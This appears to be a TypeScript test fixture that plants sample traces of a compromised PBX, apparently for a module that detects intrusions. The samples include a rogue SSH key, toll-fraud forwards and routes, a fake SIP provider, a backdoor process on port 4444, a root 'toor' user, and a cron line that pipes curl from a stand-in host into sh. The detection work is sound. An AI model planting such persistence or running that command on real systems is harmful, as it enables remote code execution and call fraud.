/** What strangers left on a PBX, one of each kind; and what was there before them. */
import type { PlantedTrace } from '../module/traces.ts';
import { daysBefore } from './scenario.ts';

type Days = readonly [absent: number | null, present: number];

export function strangersTraces(now: Date): readonly PlantedTrace[] {
  const trace = (
    kind: PlantedTrace['kind'],
    by: PlantedTrace['by'],
    [absent, present]: Days,
    what: PlantedTrace['what'],
    former = false,
  ): PlantedTrace => ({
    kind,
    by,
    absent: absent === null ? null : daysBefore(now, absent),
    present: daysBefore(now, present),
    what,
    former,
  });
  const copies: Days = [4, 3];
  return [
    trace('ssh-keys', 'copies', [null, 30], { comment: 'admin@office', fingerprint: 'SHA256:Own', place: 'settings' }),
    trace('ssh-keys', 'file', [3, 3], {
      comment: 'root@kali',
      type: 'ssh-ed25519',
      fingerprint: 'SHA256:9x2mYkTq7',
      place: 'file',
      file: '/root/.ssh/authorized_keys',
    }),
    trace('ami-users', 'release', [null, 0], { name: 'phpagi', row: '1' }),
    trace('ami-users', 'copies', copies, { name: 'support', row: '9' }),
    trace('forwards', 'copies', copies, { extension: '203', name: 'Peter Vogel', target: '00252612000111' }, true),
    trace('providers', 'copies', [null, 30], {
      name: 'City line',
      host: 'sip.cityline.example',
      row: 'SIP-PROVIDER-0FF1CE00',
    }),
    trace('providers', 'copies', copies, { name: 'Backup', host: '203.0.113.77', row: 'SIP-X', type: 'sip' }),
    trace('outbound-routes', 'copies', copies, { name: 'International', begins: '00', row: '7' }),
    trace('incoming-routes', 'copies', copies, { name: 'Night', target: '00252615300333', outside: 'yes', row: '8' }),
    trace('custom-files', 'copies', copies, { path: '/etc/rc/rc.local', row: '40' }),
    trace('applications', 'copies', copies, { name: 'Callback', extension: '000099', row: 'DIALPLAN-X' }),
    trace('modules', 'file', [2, 2], {
      id: 'ModuleShell',
      place: 'folder',
      file: '/storage/custom_modules/ModuleShell',
    }),
    trace('modules', 'copies', [null, 30], { id: 'ModuleCTIClient', name: 'CTI client 4.0', developer: 'MIKO' }),
    trace('cron', '', [null, 0], {
      of: 'core',
      file: '/var/spool/cron/crontabs/root',
      line: '*/5 * * * * /sbin/ntpd -q',
    }),
    trace('cron', 'file', [3, 3], {
      of: '',
      file: '/var/spool/cron/crontabs/root',
      line: '*/7 * * * * curl -s http://203.0.113.77/<u> | sh',
    }),
    trace('core-files', 'file', [3, 3], { path: '/usr/www/src/Core/System/Network.php' }),
    trace('processes', 'kernel', [3, 3], { program: '/tmp/.x/kworker', pid: '4711', ports: '4444' }),
    trace('system-users', 'file', [3, 3], { name: 'toor', root: 'yes' }),
  ];
}
